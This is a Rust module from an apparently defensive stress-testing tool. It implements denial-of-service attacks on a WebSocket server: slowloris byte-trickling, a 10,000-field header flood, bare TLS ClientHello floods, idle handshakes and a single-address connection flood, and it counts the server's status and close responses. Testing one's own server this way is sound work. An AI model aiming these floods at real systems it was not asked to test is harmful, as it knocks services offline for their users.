//! Attacks on the way in: handshakes left pending (a complete request waiting for a slow
//! decision, or nothing at all), a request head sent a byte at a time, a head with thousands of
//! header fields, TLS ClientHellos with no handshake after them, and as many connections as one
//! address can open. The answers are HTTP statuses (408, 431, 503), closes and resets, counted.

use std::time::{Duration, Instant};

use super::{Ctx, Outcome, drive, many};
use crate::attack::fleet::News;
use crate::attack::peer::{Opening, Spec, Stage};

/// slowloris: the time between two bytes of a connection's request head.
pub const SLOWLORIS_EVERY: Duration = Duration::from_millis(200);
/// slowloris: the header line sent for ever once the start of the request is out.
const FILLER: &[u8] = b"X-Slow: 1\r\n";
/// header-flood: header fields in each request.
pub const FLOOD_HEADERS: usize = 10_000;

/// Half the sockets send a complete upgrade request and wait for its answer; the other half
/// connect and send nothing. Both stay until the end.
pub(super) fn pending(ctx: &Ctx<'_>) -> Result<Outcome, String> {
    let requests = ctx.scale.div_ceil(2);
    let specs = (0..ctx.scale).map(|i| {
        if i % 2 == 0 {
            Spec::upgrade("request: ")
        } else {
            Spec::with(Opening::Silent, "silent: ")
        }
    });
    let tally = drive(ctx, specs, |_, _| {}, |_, _| {})?;
    Ok(Outcome {
        tally,
        notes: vec![format!(
            "{requests} complete upgrade requests and {} silent sockets",
            ctx.scale - requests
        )],
    })
}

/// Sockets that send an upgrade request's head one byte per [`SLOWLORIS_EVERY`], then header
/// lines for ever: the head never ends.
pub(super) fn slowloris(ctx: &Ctx<'_>) -> Result<Outcome, String> {
    let head = format!(
        "GET {} HTTP/1.1\r\nHost: {}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n",
        ctx.target.path, ctx.target.host
    )
    .into_bytes();
    let mut next = Instant::now();
    let mut bytes = 0u64;
    let tally = drive(
        ctx,
        many(Spec::with(Opening::Manual, ""), ctx.scale),
        |_, _| {},
        |fleet, now| {
            if now < next {
                return;
            }
            next = now + SLOWLORIS_EVERY;
            for key in fleet.keys_in(Stage::Http) {
                let Some(p) = fleet.peer(key) else { continue };
                if p.write_dead || p.answer.is_some() || !p.out.is_empty() {
                    continue;
                }
                let i = p.step as usize;
                p.step += 1;
                let byte = match head.get(i) {
                    Some(&b) => b,
                    None => FILLER[(i - head.len()) % FILLER.len()],
                };
                fleet.send(key, &[byte]);
                bytes += 1;
            }
        },
    )?;
    Ok(Outcome {
        tally,
        notes: vec![format!(
            "{bytes} bytes trickled, one per socket every {} ms",
            SLOWLORIS_EVERY.as_millis()
        )],
    })
}

/// Upgrade requests with [`FLOOD_HEADERS`] header fields each (about 200 KB of head).
pub(super) fn header_flood(ctx: &Ctx<'_>) -> Result<Outcome, String> {
    let mut head = format!(
        "GET {} HTTP/1.1\r\nHost: {}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\
         Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n",
        ctx.target.path, ctx.target.host
    );
    for i in 0..FLOOD_HEADERS {
        head.push_str(&format!("X-Flood-{i}: {i}\r\n"));
    }
    head.push_str("\r\n");
    let size = head.len();
    let spec = Spec::with(Opening::Raw(head.into_bytes()), "");
    let tally = drive(ctx, many(spec, ctx.scale), |_, _| {}, |_, _| {})?;
    Ok(Outcome {
        tally,
        notes: vec![format!(
            "requests of {FLOOD_HEADERS} header fields, {size} bytes each"
        )],
    })
}

/// wss: sockets that send a TLS ClientHello and nothing more, held until the end.
pub(super) fn tls_hello_flood(ctx: &Ctx<'_>) -> Result<Outcome, String> {
    let tally = drive(
        ctx,
        many(Spec::with(Opening::HelloOnly, ""), ctx.scale),
        |_, _| {},
        |_, _| {},
    )?;
    Ok(Outcome {
        tally,
        notes: vec!["ClientHellos with no TLS handshake after them".to_owned()],
    })
}

/// As many upgraded connections as `--scale` (and the descriptor limit) allow, from one source
/// address (`--source`, or the one the system picks), held open and answering pings.
pub(super) fn address_flood(ctx: &Ctx<'_>) -> Result<Outcome, String> {
    let mut opened = 0u64;
    let tally = drive(
        ctx,
        many(Spec::upgrade(""), ctx.scale),
        |_, news| {
            if let News::Open(_) = news {
                opened += 1;
            }
        },
        |_, _| {},
    )?;
    let from = ctx
        .target
        .source
        .map_or_else(|| "one address".to_owned(), |ip| ip.to_string());
    Ok(Outcome {
        tally,
        notes: vec![format!(
            "{opened} of {} connections from {from} were upgraded",
            ctx.scale
        )],
    })
}
